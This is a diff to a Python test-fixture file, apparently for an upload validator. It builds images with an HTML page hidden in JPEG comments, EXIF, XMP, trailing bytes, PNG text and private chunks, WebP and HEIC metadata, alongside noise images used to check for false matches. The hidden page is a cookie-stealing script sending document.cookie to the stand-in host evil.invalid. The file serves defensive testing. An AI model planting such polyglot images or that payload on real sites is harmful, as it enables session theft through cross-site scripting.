@@ -9,7 +9,7 @@ from collections.abc import Callable
 from dataclasses import dataclass
 
 import pillow_heif
-from PIL import Image
+from PIL import Image, PngImagePlugin
 from pypdf import PdfWriter
 from pypdf.actions import JavaScript
 from pypdf.generic import DictionaryObject, NameObject, StreamObject
@@ -207,3 +207,120 @@ REFUSED = [
     Refused("cut-off.pdf", truncated_pdf, "broken_pdf", "PDF 无法打开"),
     Refused("cut-off.jpg", truncated_jpeg, "broken_image", "图片无法打开"),
 ]
+
+
+# --- images that are also web pages, and images whose pixels merely look like markup --------------------------------
+
+WEB_PAGE = b"<html><body><script>document.location='https://evil.invalid/'+document.cookie</script></body></html>"
+# Where a picture of noise, as Pillow writes it (512 x 512 grey, quality 95), has `<svg` in its pixels: the first seed
+# from 0 that gives one, found by trying 18,684 of them (4.9 GB of JPEG).
+NOISE_SEED_WITH_SVG = 18683
+
+
+def noise_jpeg_with_svg_in_its_pixels() -> bytes:
+    """A photo's worth of compressed pixels that, by chance, hold `<svg` followed by the byte 0xF0: what the markup
+    search matches, and what turns up in a real photo's entropy-coded data about once in 700 million bytes.
+
+    Nothing is spliced in: the file is Pillow's JPEG of seeded noise, as it is. Should another libjpeg ever write
+    other bytes for it, the tests that use it say so; a new seed is found by trying seeds until the search matches."""
+    picture = Image.frombytes("L", (512, 512), random.Random(NOISE_SEED_WITH_SVG).randbytes(512 * 512))
+    out = io.BytesIO()
+    picture.save(out, "JPEG", quality=95)
+    return out.getvalue()
+
+
+def noise_image(image_format: str, mode: str = "RGB", **save) -> bytes:
+    """A 256 x 192 picture of noise, whose compressed pixels take nearly all of the file."""
+    picture = Image.effect_noise((256, 192), 64).convert(mode)
+    if image_format == "HEIF":
+        out = io.BytesIO()
+        pillow_heif.from_pillow(picture).save(out, quality=80)
+        return out.getvalue()
+    out = io.BytesIO()
+    picture.save(out, image_format, **save)
+    return out.getvalue()
+
+
+def png_with_svg_in_its_pixels() -> bytes:
+    """A palette PNG stored without compression (deflate's stored blocks), so that its IDAT chunk holds the pixel
+    values as they are, and they spell `<svg ` on every row."""
+    picture = Image.frombytes("P", (16, 4), b"<svg width=1 h=2" * 4)
+    picture.putpalette(bytes(range(256)) * 3)
+    out = io.BytesIO()
+    picture.save(out, "PNG", compress_level=0)
+    return out.getvalue()
+
+
+def jpeg_with_web_page_in_its_comment() -> bytes:
+    return image_bytes("JPEG", comment=WEB_PAGE)
+
+
+def jpeg_with_web_page_in_its_exif() -> bytes:
+    exif = Image.Exif()
+    exif[0x010E] = WEB_PAGE.decode()  # ImageDescription
+    return image_bytes("JPEG", exif=exif.tobytes())
+
+
+def xmp_packet_with_web_page() -> bytes:
+    return b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + WEB_PAGE + b"</x:xmpmeta>"
+
+
+def jpeg_with_web_page_in_its_xmp() -> bytes:
+    return image_bytes("JPEG", xmp=xmp_packet_with_web_page())
+
+
+def jpeg_with_web_page_after_its_end() -> bytes:
+    return image_bytes("JPEG") + WEB_PAGE
+
+
+def jpeg_with_web_page_before_a_second_end() -> bytes:
+    """The page between the image's end and a second end-of-image marker: the last EOI is not where the image ends."""
+    return image_bytes("JPEG") + WEB_PAGE + b"\xff\xd9"
+
+
+def progressive_jpeg_with_web_page_between_its_scans() -> bytes:
+    """A progressive JPEG with a comment segment (COM) holding the page just before its second scan."""
+    content = image_bytes("JPEG", size=(64, 48), progressive=True)
+    second_scan = content.index(b"\xff\xda", content.index(b"\xff\xda") + 2)
+    comment = b"\xff\xfe" + struct.pack(">H", len(WEB_PAGE) + 2) + WEB_PAGE
+    return content[:second_scan] + comment + content[second_scan:]
+
+
+def jpeg_with_web_page_in_a_second_view() -> bytes:
+    """Two JPEGs one after the other, as an MPO's views or a phone's HDR gain map are stored: the page is in the
+    second one's comment."""
+    return image_bytes("JPEG") + image_bytes("JPEG", size=(32, 24), comment=WEB_PAGE)
+
+
+def png_with_text_chunk(*, compressed: bool = False, international: bool = False) -> bytes:
+    """The page in a tEXt chunk, or zTXt (compressed), or iTXt (international, compressed when asked)."""
+    info = PngImagePlugin.PngInfo()
+    if international:
+        info.add_itxt("Description", WEB_PAGE.decode(), zip=compressed)
+    else:
+        info.add_text("Comment", WEB_PAGE.decode(), zip=compressed)
+    return image_bytes("PNG", pnginfo=info)
+
+
+def png_with_private_chunk() -> bytes:
+    """The page in a chunk of the application's own (lower-case first letter: a reader may skip it)."""
+    content = image_bytes("PNG")
+    end = content.index(b"IEND") - 4
+    chunk = struct.pack(">I", len(WEB_PAGE)) + b"htMl" + WEB_PAGE
+    return content[:end] + chunk + struct.pack(">I", zlib.crc32(chunk[4:])) + content[end:]
+
+
+def webp_with(*, exif: bytes = b"", xmp: bytes = b"", after: bytes = b"") -> bytes:
+    return image_bytes("WEBP", exif=exif, xmp=xmp) + after
+
+
+def heic_with(*, exif: bytes | None = None, xmp: bytes | None = None, after: bytes = b"") -> bytes:
+    """A HEIC photo whose Exif or XMP item (in the mdat box, beside the coded pixels) holds what is given."""
+    heif = pillow_heif.from_pillow(Image.new("RGB", (64, 48), "seagreen"))
+    if exif is not None:
+        heif.info["exif"] = exif
+    if xmp is not None:
+        heif.info["xmp"] = xmp
+    out = io.BytesIO()
+    heif.save(out, quality=50)
+    return out.getvalue() + after
